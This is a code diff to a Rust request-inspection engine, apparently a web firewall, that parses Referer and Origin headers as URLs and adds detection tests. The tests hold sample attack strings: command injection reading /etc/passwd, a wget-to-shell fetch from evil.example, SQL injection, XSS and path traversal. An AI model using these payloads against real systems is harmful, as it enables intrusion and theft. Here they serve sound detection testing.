@@ -551,7 +551,6 @@ impl Engine {
                 | "tracestate"
                 | "date"
                 | "expect"
-                | "origin"
                 | "cookie"
         ) || n.starts_with("sec-"))
     }
@@ -591,19 +590,16 @@ impl Engine {
                     );
                 }
             } else if self.wants_header(name) {
-                let referer = name.eq_ignore_ascii_case("referer");
-                let is_value = !referer && !name.eq_ignore_ascii_case("user-agent");
-                push(
-                    &mut v,
-                    Location::Header(name.clone()),
-                    decode::normalize_cow(value, false),
-                    is_value,
-                );
-                // The referring URL's parameters are the same attacker-chosen values
-                // as this request's (and reflected by analytics and logs): inspect
-                // them one by one too.
-                if referer && let Some((_, q)) = value.split_once('?') {
-                    push_pairs(&mut v, q, Location::Header(name.clone()));
+                let loc = Location::Header(name.clone());
+                let url_header =
+                    name.eq_ignore_ascii_case("referer") || name.eq_ignore_ascii_case("origin");
+                if url_header && let Some(url) = split_url(value) {
+                    push_url(&mut v, url, &loc);
+                } else {
+                    // A Referer or Origin that is no URL was not written by a browser:
+                    // judge it whole, like any other header.
+                    let is_value = !url_header && !name.eq_ignore_ascii_case("user-agent");
+                    push(&mut v, loc, decode::normalize_cow(value, false), is_value);
                 }
             }
         }
@@ -650,6 +646,64 @@ fn push<'a>(v: &mut Vec<Input<'a>>, location: Location, text: Cow<'a, str>, is_v
             text,
             is_value,
         });
+    }
+}
+
+/// A URL split into the part before the query, the query and the fragment.
+struct Url<'a> {
+    base: &'a str,
+    query: Option<&'a str>,
+    fragment: Option<&'a str>,
+}
+
+/// Splits an absolute (`scheme://…`) or origin-relative (`/…`) URL, as browsers
+/// send in Referer and Origin; `None` for anything else.
+fn split_url(value: &str) -> Option<Url<'_>> {
+    let value = value.trim();
+    let absolute = value.split_once("://").is_some_and(|(scheme, _)| {
+        scheme
+            .bytes()
+            .next()
+            .is_some_and(|b| b.is_ascii_alphabetic())
+            && scheme
+                .bytes()
+                .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'-' | b'.'))
+    });
+    if !absolute && !value.starts_with('/') {
+        return None;
+    }
+    let (rest, fragment) = match value.split_once('#') {
+        Some((r, f)) => (r, Some(f)),
+        None => (value, None),
+    };
+    let (base, query) = match rest.split_once('?') {
+        Some((b, q)) => (b, Some(q)),
+        None => (rest, None),
+    };
+    Some(Url {
+        base,
+        query,
+        fragment,
+    })
+}
+
+/// Pushes a URL header (Referer, Origin) as a URL: the scheme, host and path as
+/// one string; the query parameters one by one, as this request's own query
+/// parameters are (they are as attacker-chosen, and reflected by analytics and
+/// logs); the fragment as a value. The query is never judged whole: `a=1&sort=desc`
+/// is a parameter list, not a shell command chain.
+fn push_url<'a>(v: &mut Vec<Input<'a>>, url: Url<'a>, loc: &Location) {
+    push(
+        v,
+        loc.clone(),
+        decode::normalize_cow(url.base, false),
+        false,
+    );
+    if let Some(q) = url.query {
+        push_pairs(v, q, loc.clone());
+    }
+    if let Some(f) = url.fragment {
+        push(v, loc.clone(), decode::normalize_cow(f, true), true);
     }
 }
 
@@ -862,6 +916,79 @@ mod tests {
         let e = evidence("session=abcdefghijklmnopqrstuvwxyz0123 ' or 1=1", 0);
         assert!(e.contains("abcd***"), "{e}");
         assert!(!e.contains("wxyz"));
+    }
+
+    /// Common query parameter names, many of them also Unix commands (`sort`, `id`,
+    /// `date`, `type`, `time`, `head`, `find`, `file`, `host`, `watch`, ...).
+    const PARAM_NAMES: &[&str] = &[
+        "sort", "id", "type", "date", "time", "page", "limit", "offset", "order", "from", "to",
+        "start", "end", "format", "lang", "view", "tab", "filter", "status", "category", "user",
+        "name", "file", "host", "source", "set", "ref", "mode", "head", "more", "less", "find",
+        "watch", "top", "cut", "make", "at", "call", "for", "if", "env", "w", "who", "cat", "tail",
+        "stat", "dir", "ps", "ls", "rm", "mv", "cp", "ping", "echo", "kill", "service", "route",
+    ];
+
+    /// A browser app user: every API call carries the page it was made from as
+    /// Referer, with the page's query (`&sort=`, `&id=`, ...). Twenty calls must not
+    /// add a single point.
+    #[test]
+    fn referer_and_origin_are_urls_of_this_site() {
+        for (i, chunk) in PARAM_NAMES.chunks(4).enumerate() {
+            let page: Vec<String> = chunk.iter().map(|n| format!("{n}=v{i}")).collect();
+            let raw = format!(
+                "GET /api/v1/items/{i} HTTP/1.1\r\nHost: app.example\r\n\
+                 Origin: https://app.example\r\n\
+                 Referer: https://app.example/list?page={i}&{}&date=2024-01-0{}#top\r\n\r\n",
+                page.join("&"),
+                i % 9 + 1,
+            );
+            let (v, a) = run(&raw);
+            assert!(v.is_empty(), "{raw}: {v:?}");
+            assert_eq!(a, Action::Allow);
+        }
+        // The same parameters in a body's text (a URL pasted in a JSON string).
+        let url = format!("https://app.example/list?x=1&{}=1", PARAM_NAMES.join("=1&"));
+        let body = format!("{{\"link\":\"{url}\"}}");
+        let raw = format!(
+            "POST /api/v1/notes HTTP/1.1\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n{body}",
+            body.len()
+        );
+        let (v, _) = run(&raw);
+        assert!(v.iter().all(|v| v.category != Category::Cmdi), "{v:?}");
+    }
+
+    /// Attacks in a Referer or Origin are still found: in the referring page's
+    /// parameters (as if they were this request's), in its path, and in values that
+    /// are no URL at all.
+    #[test]
+    fn attacks_in_referer_and_origin() {
+        for (h, val) in [
+            (
+                "Referer",
+                "https://app.example/list?sort=desc&q=;cat /etc/passwd",
+            ),
+            ("Referer", "https://app.example/list?sort=desc%7Cid"),
+            ("Referer", "https://app.example/?id=1' or '1'='1"),
+            (
+                "Referer",
+                "https://app.example/?id=1 union select password from users--",
+            ),
+            (
+                "Referer",
+                "https://app.example/?q=<script>alert(1)</script>",
+            ),
+            ("Referer", "https://app.example/../../../../etc/passwd"),
+            ("Referer", "; cat /etc/passwd"),
+            ("Referer", "1' or '1'='1"),
+            ("Origin", "https://app.example?x=$(id)"),
+            ("Origin", "null; wget http://evil.example/x | sh"),
+            ("Origin", "' or 1=1--"),
+        ] {
+            let raw =
+                format!("GET /api/v1/items HTTP/1.1\r\nHost: app.example\r\n{h}: {val}\r\n\r\n");
+            let (v, a) = run(&raw);
+            assert_eq!(a, Action::Ban, "{h}: {val}: {v:?}");
+        }
     }
 
     #[test]
